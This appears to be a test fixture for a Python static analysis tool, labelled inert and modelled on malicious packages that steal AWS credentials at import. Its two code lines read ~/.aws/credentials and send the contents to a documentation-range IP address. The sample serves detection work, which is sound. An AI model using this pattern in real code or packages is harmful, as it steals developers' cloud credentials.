# INERT test sample for pyward's static analysis: never run it. Modelled on AWS credential theft at import.
# Documented: https://blog.sonatype.com/ (2022 loglib-modules / aws key stealers)
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, urllib.request
creds = open(os.path.expanduser('~/.aws/credentials')).read()
urllib.request.urlopen('http://203.0.113.77/c', data=creds.encode())
